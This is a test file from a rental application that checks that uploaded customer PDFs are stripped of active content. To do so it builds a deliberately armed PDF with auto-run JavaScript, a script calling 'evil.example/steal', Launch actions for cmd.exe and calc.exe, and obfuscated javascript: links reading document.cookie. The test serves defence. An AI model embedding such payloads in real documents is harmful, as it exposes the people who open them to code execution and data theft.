/**
 * A PDF kept as a document runs nothing and reaches nowhere when staff open it (decision 106): a
 * PDF built here carrying a document script, an action on opening, triggers on the page, the
 * document and a form field, a launch action, `javascript:` links (plain and hex-written, one in a
 * chain of actions) is sent as a customer's document; read back, none of them remains, while the
 * page's text, a web link and a move within the document do.
 */
import { pathFor } from '@rental/contract';
import { decodePDFRawStream, PDFArray, PDFDict, PDFDocument, PDFHexString, PDFName, type PDFObject, PDFRawStream, PDFString, StandardFonts } from 'pdf-lib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type Account, authHeader, callWithStatus, createOwner, createTestApp, describeDatabase, registerCustomer, type TestApp } from './helpers';
import { formData } from './support/multipart';
import { pdfText } from './support/pdfText';

const PAGE_TEXT = 'Proof of address: 14 Waterford Drive, Portmore';

/** The PDF an attacker would send: every way a PDF can run something or reach out. */
async function armedPdf(): Promise<Buffer> {
  const pdf = await PDFDocument.create();
  const page = pdf.addPage([400, 300]);
  page.drawText(PAGE_TEXT, { x: 20, y: 250, size: 12, font: await pdf.embedFont(StandardFonts.Helvetica) });
  const { context, catalog } = pdf;
  const script = (code: string) => context.obj({ S: 'JavaScript', JS: PDFString.of(code) });

  // What runs on opening, and the document's own scripts (one held in a stream).
  catalog.set(PDFName.of('OpenAction'), script("app.alert('opened')"));
  const scriptStream = context.register(context.stream("app.launchURL('http://evil.example/steal')"));
  const namedScript = context.register(context.obj({ S: 'JavaScript', JS: scriptStream }));
  catalog.set(PDFName.of('Names'), context.obj({ JavaScript: context.obj({ Names: [PDFString.of('init'), namedScript] }) }));
  // Triggers: the document's (before closing), the page's (on opening it).
  catalog.set(PDFName.of('AA'), context.obj({ WC: script("app.alert('closing')") }));
  page.node.set(
    PDFName.of('AA'),
    context.obj({ O: context.register(context.obj({ S: 'Launch', F: PDFString.of('cmd.exe'), Win: { F: PDFString.of('cmd.exe') } })) }),
  );

  const link = (action: PDFObject, y: number) =>
    context.register(context.obj({ Type: 'Annot', Subtype: 'Link', Rect: [20, y, 200, y + 20], Border: [0, 0, 0], A: action }));
  const annotations = [
    // A launch action, as an object of its own.
    link(context.register(context.obj({ S: 'Launch', F: PDFString.of('calc.exe') })), 200),
    // javascript: links, plain and hex-written with odd case and a leading space.
    link(context.obj({ S: 'URI', URI: PDFString.of('javascript:alert(document.cookie)') }), 170),
    link(context.obj({ S: 'URI', URI: PDFHexString.fromText(' JaVaScRiPt:alert(1)') }), 140),
    // A safe link whose chain of actions goes on to a script.
    link(context.obj({ S: 'URI', URI: PDFString.of('https://www.example.com/help'), Next: [script("app.alert('next')")] }), 110),
    // A move within the document: kept.
    link(context.obj({ S: 'GoTo', D: [page.ref, PDFName.of('Fit')] }), 80),
    // A form field with a trigger on change.
    context.register(
      context.obj({ Type: 'Annot', Subtype: 'Widget', FT: 'Tx', T: PDFString.of('name'), Rect: [20, 20, 200, 40], AA: { K: script("app.alert('typed')") } }),
    ),
  ];
  page.node.set(PDFName.of('Annots'), context.obj(annotations));
  return Buffer.from(await pdf.save({ useObjectStreams: false }));
}

/** Every dictionary of the file, with its direct dictionaries inside. */
function* everyDict(pdf: PDFDocument): Generator<PDFDict> {
  const stack: PDFObject[] = pdf.context.enumerateIndirectObjects().map(([, object]) => object);
  while (stack.length > 0) {
    const object = stack.pop()!;
    const dict = object instanceof PDFDict ? object : 'dict' in object && object.dict instanceof PDFDict ? object.dict : undefined;
    if (dict) {
      yield dict;
      stack.push(...dict.values());
    } else if (object instanceof PDFArray) stack.push(...object.asArray());
  }
}

/** The file's objects written one by one, and every stream unpacked: what a search must see all of. */
async function everyWord(bytes: Uint8Array): Promise<string> {
  const pdf = await PDFDocument.load(bytes, { updateMetadata: false });
  const parts = [Buffer.from(await pdf.save({ useObjectStreams: false, updateFieldAppearances: false })).toString('latin1')];
  for (const [, object] of pdf.context.enumerateIndirectObjects()) {
    if (object instanceof PDFRawStream) parts.push(Buffer.from(decodePDFRawStream(object).decode()).toString('latin1'));
  }
  return parts.join('\n');
}

describe(`PDF documents run nothing (${describeDatabase})`, () => {
  let t: TestApp;
  let owner: Account;
  let customer: Account;

  beforeAll(async () => {
    t = await createTestApp();
    owner = await createOwner(t.app);
    customer = await registerCustomer(t.app);
  });
  afterAll(() => t?.close());

  it('strips scripts, actions on opening, triggers, launch actions and javascript: links, keeping the text, web links and moves within', async () => {
    const armed = await armedPdf();
    const before = armed.toString('latin1');
    for (const marker of ['/OpenAction', '/AA', '/JavaScript', '/Launch', 'javascript:alert', 'calc.exe', "app.alert('next')"])
      expect(before, marker).toContain(marker);

    const form = formData({ kind: 'proof_of_address' }, [{ name: 'file', bytes: armed, type: 'application/pdf', filename: 'address.pdf' }]);
    const sent = await callWithStatus(t.app, customer.token, 'uploadDocument', { form });
    expect(sent.status).toBe(201);
    // The file itself is bytes, not an answer of the API's: read raw.
    const file = await t.app.inject({ method: 'GET', url: pathFor('document', { id: sent.answer.document._id }), headers: authHeader(owner.token) });
    expect(file.headers['content-type']).toBe('application/pdf');
    const kept = file.rawPayload;

    // Read back as a PDF: no dictionary holds a script, a trigger or an action other than a move, a menu command or a web link.
    const pdf = await PDFDocument.load(kept, { updateMetadata: false });
    const actions: string[] = [];
    for (const dict of everyDict(pdf)) {
      for (const key of ['OpenAction', 'AA', 'JS', 'JavaScript']) expect(dict.has(PDFName.of(key)), key).toBe(false);
      const type = dict.get(PDFName.of('S'));
      if (type instanceof PDFName && ['/GoTo', '/URI', '/JavaScript', '/Launch'].includes(type.asString())) {
        const uri = dict.lookup(PDFName.of('URI'));
        actions.push(`${type.asString()}${uri instanceof PDFString || uri instanceof PDFHexString ? ` ${uri.decodeText()}` : ''}`);
        expect(dict.has(PDFName.of('Next'))).toBe(false);
      }
    }
    expect(actions.sort()).toEqual(['/GoTo', '/URI https://www.example.com/help']);

    // And as bytes, every stream unpacked: none of their words is left anywhere.
    const text = await everyWord(kept);
    for (const marker of [
      '/OpenAction',
      '/AA',
      '/JavaScript',
      '/JS',
      '/Launch',
      'javascript:',
      'JaVaScRiPt',
      'calc.exe',
      'cmd.exe',
      'app.alert',
      'evil.example',
    ]) {
      expect(text.includes(marker), marker).toBe(false);
    }

    // The page is intact: its text reads as it was written, with its links.
    expect(pdf.getPageCount()).toBe(1);
    expect(await pdfText(kept)).toContain(PAGE_TEXT);
    expect(pdf.getPage(0).node.Annots()?.size()).toBe(6);
  });
});
